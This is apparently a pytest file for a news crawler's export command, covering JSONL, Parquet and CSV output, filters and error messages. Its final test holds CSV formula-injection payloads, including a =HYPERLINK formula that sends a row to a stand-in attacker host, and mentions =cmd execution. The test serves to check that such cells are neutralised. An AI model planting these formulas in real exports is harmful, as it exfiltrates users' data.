"""scrapy export: JSONL (loaded by HuggingFace datasets), Parquet (declared schema), CSV (BOM),
filters, the dataset card, and one-line errors — from a real SQLite store."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from crawler.commands.export import PARQUET_SCHEMA, ExportError, export
from crawler.items import SCHEMA_VERSION, empty_article
from crawler.storage import ArticleStore

ROOT = Path(__file__).resolve().parents[1]


def row(n: int, outlet: str, day: str | None, **fields) -> dict:
    r = empty_article()
    r.update(url=f"https://{outlet}.test/news/{n}", outlet=outlet, title=f"عنوان الخبر {n}", body=f"نص الخبر رقم {n}",
             published_at=f"{day}T10:00:00+03:00" if day else None)
    r.update(fields)
    return r


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "store.sqlite3"
    s = ArticleStore(f"sqlite:///{path}")
    s.upsert_many([
        row(1, "north", "2024-05-01", authors=["سلمى حداد"], images=[{"url": "https://north.test/1.jpg"}]),
        row(2, "north", "2024-05-02", tags=["طقس"], related=[{"title": "خبر ذو صلة", "url": "https://north.test/r"}]),
        row(3, "south", "2024-05-02", duplicate_of="https://north.test/news/2", duplicate_kind="near",
            embeds=[{"platform": "x", "url": "https://x.test/p/1", "text": "منشور"}]),
        row(4, "south", None),
    ])
    s.close()
    return path


def open_store(db: Path) -> ArticleStore:
    return ArticleStore(f"sqlite:///{db}")


def test_jsonl_loads_in_huggingface_datasets(db: Path, tmp_path: Path) -> None:
    datasets = pytest.importorskip("datasets")
    out = tmp_path / "out" / "articles.jsonl"
    s = open_store(db)
    card = export(s, "jsonl", out)
    s.close()
    assert card["rows"] == 4
    ds = datasets.load_dataset("json", data_files=str(out), split="train")
    assert ds.num_rows == 4
    by_url = {r["url"]: r for r in ds}
    assert by_url["https://north.test/news/1"]["authors"] == ["سلمى حداد"]
    assert by_url["https://north.test/news/1"]["images"] == [{"url": "https://north.test/1.jpg", "caption": None}]
    assert by_url["https://south.test/news/3"]["duplicate_of"] == "https://north.test/news/2"
    assert "\\u06" not in out.read_text(encoding="utf-8")  # Arabic written as is


def test_parquet_has_the_declared_schema(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "a.parquet"
    s = open_store(db)
    export(s, "parquet", out)
    s.close()
    table = pq.read_table(out)
    assert table.schema.remove_metadata() == PARQUET_SCHEMA.remove_metadata()
    assert table.schema.metadata[b"schema_version"] == str(SCHEMA_VERSION).encode()
    rows = {r["url"]: r for r in table.to_pylist()}
    assert rows["https://north.test/news/2"]["related"] == [
        {"title": "خبر ذو صلة", "url": "https://north.test/r", "text": None}]
    assert rows["https://north.test/news/1"]["first_seen"].tzinfo is not None


def test_csv_has_a_bom_and_lists_as_json(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "a.csv"
    s = open_store(db)
    export(s, "csv", out, outlets=["north"])
    s.close()
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfurl,canonical_url,")
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig")))
    assert [r["outlet"] for r in rows] == ["north", "north"]
    assert json.loads(rows[0]["authors"]) == ["سلمى حداد"]


def test_filters_and_the_card_counted_by_hand(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "f.jsonl"
    s = open_store(db)
    card = export(s, "jsonl", out, since="2024-05-02", until="2024-05-02", dedup=True)
    s.close()
    assert [json.loads(x)["url"] for x in out.read_text(encoding="utf-8").splitlines()] == [
        "https://north.test/news/2"]  # 1 is too early, 3 is a linked copy, 4 has no date
    assert card["per_outlet_day"] == {"north": {"2024-05-02": 1}}
    on_disk = json.loads((tmp_path / "f.jsonl.card.json").read_text(encoding="utf-8"))
    assert on_disk["rows"] == 1 and on_disk["schema_version"] == SCHEMA_VERSION
    assert on_disk["field_coverage"]["tags"] == 1.0 and on_disk["field_coverage"]["authors"] == 0.0
    assert "| north | 2024-05-02 | 1 |" in (tmp_path / "f.jsonl.card.md").read_text(encoding="utf-8")

    s = open_store(db)
    full = export(s, "jsonl", tmp_path / "all.jsonl")
    s.close()
    assert full["per_outlet_day"] == {"north": {"2024-05-01": 1, "2024-05-02": 1},
                                      "south": {"(undated)": 1, "2024-05-02": 1}}
    assert full["duplicates_linked"] == 1 and full["field_coverage"]["published_at"] == 0.75


@pytest.mark.parametrize(("kwargs", "message"), [
    ({"since": "2024/05/01"}, "--since must be a day as YYYY-MM-DD"),
    ({"until": "2024-02-30"}, "is not a calendar day"),
    ({"since": "2024-06-01", "until": "2024-05-01"}, "is after --until"),
])
def test_bad_filters_raise_export_error(db: Path, tmp_path: Path, kwargs: dict, message: str) -> None:
    s = open_store(db)
    with pytest.raises(ExportError, match=message):
        export(s, "jsonl", tmp_path / "x.jsonl", **kwargs)
    s.close()
    assert not (tmp_path / "x.jsonl").exists()


def scrapy(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "scrapy", *args], cwd=ROOT, capture_output=True, text=True,
                          timeout=60)


def test_command_writes_file_and_card(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "cmd.parquet"
    done = scrapy("export", "--format", "parquet", "--outlet", "south", "-o", str(out), "-s", f"SQLITE_PATH={db}")
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("2 articles ->")
    assert pq.read_table(out).num_rows == 2
    assert (tmp_path / "cmd.parquet.card.md").exists()


@pytest.mark.parametrize(("args", "message"), [
    (["--format", "xml"], "unknown format 'xml'"),
    (["--since", "yesterday"], "--since must be a day as YYYY-MM-DD"),
    (["extra"], "unexpected argument 'extra'"),
    # an outlet neither a module nor in the store: "0 articles" and exit 0 read as "collected nothing"
    (["--outlet", "nosuch"], "--outlet: unknown outlet 'nosuch' (no outlet module, nothing stored under it; "),
    (["--outlet", "sout"], "did you mean south?"),
    (["--outlet", " , "], "--outlet needs one or more outlet slugs"),
])
def test_command_errors_are_one_line(db: Path, tmp_path: Path, args: list[str], message: str) -> None:
    done = scrapy("export", *args, "-o", str(tmp_path / "e.jsonl"), "-s", f"SQLITE_PATH={db}")
    assert done.returncode == 2  # a usage error, as scrapy crawl's
    assert message in done.stderr
    assert len(done.stderr.strip().splitlines()) == 1 and "Traceback" not in done.stderr


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    """Titles are written by the pages' authors: one starting with =, +, -, @ or a tab would be a
    live formula in a spreadsheet (=HYPERLINK to exfiltrate a row, =cmd|...). In CSV each such
    cell gets a leading apostrophe; JSONL keeps the text exact."""
    path = tmp_path / "store.sqlite3"
    titles = ['=HYPERLINK("https://evil.test/?"&A1,"انقر")', "+1-2", "-2+3", "@SUM(A1:A9)", "\tعنوان", "\rعنوان",
              "عنوان = عادي"]
    s = ArticleStore(f"sqlite:///{path}")
    s.upsert_many([row(n, "north", "2024-05-01", title=t, authors=["=1+1"]) for n, t in enumerate(titles)])
    export(s, "csv", tmp_path / "out.csv")
    export(s, "jsonl", tmp_path / "out.jsonl")
    s.close()
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as fh:
        cells = {r["url"]: r for r in csv.DictReader(fh)}
    for n, title in enumerate(titles):
        cell = cells[f"https://north.test/news/{n}"]["title"]
        assert cell == (title if n == 6 else "'" + title)
        assert cells[f"https://north.test/news/{n}"]["authors"] == '["=1+1"]'  # JSON text starts with [
    exact = [json.loads(x)["title"] for x in (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()]
    assert sorted(exact) == sorted(titles)
